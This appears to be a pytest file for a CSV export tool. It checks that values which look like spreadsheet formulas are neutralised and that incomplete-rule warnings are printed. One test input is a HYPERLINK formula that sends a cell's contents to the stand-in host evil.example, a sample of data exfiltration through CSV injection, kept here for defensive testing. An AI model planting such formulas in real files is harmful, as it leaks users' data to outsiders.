"""Cells of CSV files: a spreadsheet must not evaluate data as formulas."""

from datetime import UTC, datetime
from typing import Any

import pytest

from moirae.cli.export import _print_lost_verdicts, format_csv_cell


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_text_that_looks_like_a_formula_is_quoted(prefix: str) -> None:
    text = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"x")'
    assert format_csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("a=b", "a=b"),
        (-0.5, "-0.5"),
        (None, ""),
        ({"host": "=1"}, '{"host":"=1"}'),
        (datetime(2026, 1, 1, tzinfo=UTC), "2026-01-01T00:00:00Z"),
    ],
)
def test_other_values_are_written_unchanged(value: Any, text: str) -> None:
    assert format_csv_cell(value) == text


def test_export_says_which_rules_have_no_verdict_over_some_rows(
    capsys: pytest.CaptureFixture[str],
) -> None:
    _print_lost_verdicts({"g/A": 1, "g/B": 2_000})
    output = capsys.readouterr()
    assert output.out == ""
    assert output.err.splitlines() == [
        "not complete: rule g/A has no verdict over 1 row, which exceeded its limits: "
        "see `moirae rules show g/A`",
        "not complete: rule g/B has no verdict over 2,000 rows, which exceeded its limits: "
        "see `moirae rules show g/B`",
    ]
